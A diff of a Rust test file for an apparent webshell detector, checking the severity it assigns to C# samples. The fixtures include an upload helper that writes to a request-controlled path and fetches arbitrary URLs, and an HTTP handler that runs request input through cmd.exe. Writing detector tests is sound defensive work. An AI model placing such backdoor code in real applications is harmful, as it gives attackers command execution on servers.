@@ -52,15 +52,17 @@ fn data_binding_eval_is_not_script_evaluation() {
 }
 
 #[test]
-fn class_files_need_a_decisive_capability_and_client_scripts_are_not_server_code() {
-    // An application's upload helper: the visitor's file lands under a name it sends, and the
-    // class fetches and writes other things too; as a page that is a webshell's set of APIs.
-    let helper = b"using System;\nusing System.IO;\nusing System.Net;\nnamespace Blog.Core {\n\
-                   public class Media {\n\
-                   public void Save(string name) { var f = new FileStream(Request.Form[\"dir\"] + name, FileMode.Create); }\n\
-                   public byte[] Get(string u) { return new WebClient().DownloadData(u); }\n\
-                   public void Remove(string p) { File.Delete(Request.Form[\"p\"]); }\n}}\n";
-    assert!(verdict("Media.cs", helper) < Some(Severity::Medium));
+fn class_files_need_a_decisive_capability_or_a_high_score_and_client_scripts_are_not_server_code() {
+    // An application's upload helper: the visitor's file lands in a folder it names, and the
+    // class fetches other things too; on a page that pair is a medium verdict, in a class that
+    // holds a whole application's APIs it is not.
+    let class = "public class Media {\n\
+                 public void Save(string name) { var f = new FileStream(\"c:\\\\media\\\\\" + Request.Form[\"dir\"] + name, FileMode.Create); }\n\
+                 public byte[] Get(string u) { return new WebClient().DownloadData(u); }\n}";
+    let helper = format!("using System;\nusing System.IO;\nusing System.Net;\nnamespace Blog.Core {{\n{class}}}\n");
+    assert!(verdict("Media.cs", helper.as_bytes()) < Some(Severity::Medium));
+    let page = format!("<%@ Page Language=\"C#\" %><script runat=\"server\">\n{class}\n</script>");
+    assert!(verdict("media.aspx", page.as_bytes()) >= Some(Severity::Medium));
     // A class that runs what the request sends is still one.
     let backdoor = b"using System;\nusing System.Web;\nnamespace App {\npublic class H : IHttpHandler {\n\
                      public void ProcessRequest(HttpContext c) { System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + c.Request.Form[\"c\"]); }\n\
